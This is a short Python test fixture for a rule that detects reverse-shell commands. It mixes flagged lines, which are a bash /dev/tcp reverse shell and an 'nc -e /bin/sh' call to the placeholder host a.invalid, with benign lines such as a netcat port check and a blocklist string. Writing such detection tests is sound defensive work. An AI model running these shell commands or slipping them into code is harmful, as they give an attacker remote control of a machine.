import os, subprocess
# ruleid: shells-reverse-command
os.system("bash -i >& /dev/tcp/a.invalid/99 0>&1")
# ruleid: shells-reverse-command
subprocess.Popen(["nc", "-e", "/bin/sh", "a.invalid", "99"])
# ok: shells-reverse-command
subprocess.run(["nc", "-z", "localhost", "80"])
BLOCKED = ["bash -i >& /dev/tcp/"]
# ok: shells-reverse-command
print(BLOCKED)
